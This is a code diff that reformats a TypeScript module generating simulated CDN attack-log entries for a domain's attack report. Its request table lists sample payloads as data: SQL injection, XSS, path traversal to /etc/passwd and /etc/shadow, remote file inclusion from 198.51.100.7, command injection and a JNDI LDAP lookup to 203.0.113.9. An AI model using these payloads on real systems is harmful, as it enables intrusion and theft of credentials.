@@ -1,6 +1,13 @@
 // The attacks of a domain one by one: the same attacks the attacks report counts, each with its
 // moment, its type, where it came from and the request it made, newest first, a page at a time.
-import { ATTACK_TYPES, REPORT_COUNTRIES, cdnReportFigures, reportNoise, type ReportRange, type ReportSource } from './cdnReports';
+import {
+  ATTACK_TYPES,
+  REPORT_COUNTRIES,
+  cdnReportFigures,
+  reportNoise,
+  type ReportRange,
+  type ReportSource,
+} from './cdnReports';
 
 export type CdnAttackType = (typeof ATTACK_TYPES)[number];
 
@@ -32,25 +39,43 @@ export const MAX_ATTACKS_PER_PAGE = 100;
 export const DEFAULT_ATTACKS_PER_PAGE = 10;
 
 /** What each type of attack asks for, and with what. */
-const REQUESTS: Readonly<Record<CdnAttackType, { methods: readonly string[]; uris: readonly string[]; agents: readonly string[] }>> = {
+const REQUESTS: Readonly<
+  Record<CdnAttackType, { methods: readonly string[]; uris: readonly string[]; agents: readonly string[] }>
+> = {
   sql_injection: {
     methods: ['GET', 'POST'],
-    uris: ["/products?id=1' OR '1'='1", '/search?q=1 UNION SELECT username,password FROM users--', "/login?user=admin'--"],
+    uris: [
+      "/products?id=1' OR '1'='1",
+      '/search?q=1 UNION SELECT username,password FROM users--',
+      "/login?user=admin'--",
+    ],
     agents: ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.0 (X11; Linux x86_64) Firefox/118.0'],
   },
   xss: {
     methods: ['GET', 'POST'],
-    uris: ['/search?q=<script>alert(1)</script>', '/comment?text=<img src=x onerror=alert(1)>', '/?next=javascript:alert(1)'],
+    uris: [
+      '/search?q=<script>alert(1)</script>',
+      '/comment?text=<img src=x onerror=alert(1)>',
+      '/?next=javascript:alert(1)',
+    ],
     agents: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/119.0', 'python-requests/2.31.0'],
   },
   file_inclusion: {
     methods: ['GET'],
-    uris: ['/index.php?page=../../../../etc/passwd', '/download?file=..%2f..%2f..%2fetc%2fshadow', '/view?tpl=http://198.51.100.7/shell.txt'],
+    uris: [
+      '/index.php?page=../../../../etc/passwd',
+      '/download?file=..%2f..%2f..%2fetc%2fshadow',
+      '/view?tpl=http://198.51.100.7/shell.txt',
+    ],
     agents: ['curl/8.4.0', 'Wget/1.21.4'],
   },
   remote_execution: {
     methods: ['POST', 'GET'],
-    uris: ['/cgi-bin/status?cmd=;cat /etc/passwd', '/api/ping?host=127.0.0.1|id', '/api/users?name=%24%7Bjndi:ldap://203.0.113.9/a%7D'],
+    uris: [
+      '/cgi-bin/status?cmd=;cat /etc/passwd',
+      '/api/ping?host=127.0.0.1|id',
+      '/api/users?name=%24%7Bjndi:ldap://203.0.113.9/a%7D',
+    ],
     agents: ['Mozilla/5.0 zgrab/0.x', 'curl/7.88.1'],
   },
   bad_bot: {
@@ -79,14 +104,27 @@ const FIRST_OCTET: Readonly<Record<string, readonly number[]>> = {
   CA: [24, 99, 142],
 };
 
-const pick = <T>(list: readonly T[], r: number): T => list[Math.min(list.length - 1, Math.floor(r * list.length))] as T;
+const pick = <T>(list: readonly T[], r: number): T =>
+  list[Math.min(list.length - 1, Math.floor(r * list.length))] as T;
 
 /** The k-th attack of a type in the point starting at `t`, `span` seconds from `from`. */
-function attackRow(source: ReportSource, type: CdnAttackType, t: number, k: number, from: number, span: number): CdnAttackRow {
+function attackRow(
+  source: ReportSource,
+  type: CdnAttackType,
+  t: number,
+  k: number,
+  from: number,
+  span: number,
+): CdnAttackRow {
   // a distinct slot number per attack and per field, so every field draws its own number
   const r = (field: number) => reportNoise(source.id, type, t * 4099 + k * 131 + field);
   const country = pick(REPORT_COUNTRIES, r(1) ** 2);
-  const octets = [pick(FIRST_OCTET[country] ?? [185], r(2)), 1 + Math.floor(r(3) * 254), Math.floor(r(4) * 256), 1 + Math.floor(r(5) * 254)];
+  const octets = [
+    pick(FIRST_OCTET[country] ?? [185], r(2)),
+    1 + Math.floor(r(3) * 254),
+    Math.floor(r(4) * 256),
+    1 + Math.floor(r(5) * 254),
+  ];
   const request = REQUESTS[type];
   return {
     id: `${t}-${type}-${k}`,
@@ -105,7 +143,12 @@ function attackRow(source: ReportSource, type: CdnAttackType, t: number, k: numb
  * many of each type in each point of its chart as the chart counts, so the list's total is the
  * report's total; each attack falls inside its point (never before the domain was added).
  */
-export function cdnAttackPage(source: ReportSource, range: ReportRange, page: number, perPage: number): CdnAttackPage {
+export function cdnAttackPage(
+  source: ReportSource,
+  range: ReportRange,
+  page: number,
+  perPage: number,
+): CdnAttackPage {
   const { charts, statistics } = cdnReportFigures(source, 'attacks', range);
   const points = charts.attacks?.categories ?? [];
   const byType = ATTACK_TYPES.map((type) => charts.attacks?.series.find((s) => s.name === type)?.data ?? []);
@@ -124,7 +167,9 @@ export function cdnAttackPage(source: ReportSource, range: ReportRange, page: nu
     const t = points[i] as number;
     const from = Math.max(t, source.addedAt);
     const span = Math.max(1, Math.min(t + range.step, range.until) - from);
-    const rows = ATTACK_TYPES.flatMap((type, j) => Array.from({ length: counts[j] ?? 0 }, (_, k) => attackRow(source, type, t, k, from, span)));
+    const rows = ATTACK_TYPES.flatMap((type, j) =>
+      Array.from({ length: counts[j] ?? 0 }, (_, k) => attackRow(source, type, t, k, from, span)),
+    );
     rows.sort((a, b) => b.timestamp - a.timestamp || (a.id < b.id ? -1 : 1));
     const start = Math.max(0, first - skipped);
     items.push(...rows.slice(start, start + perPage - items.length));
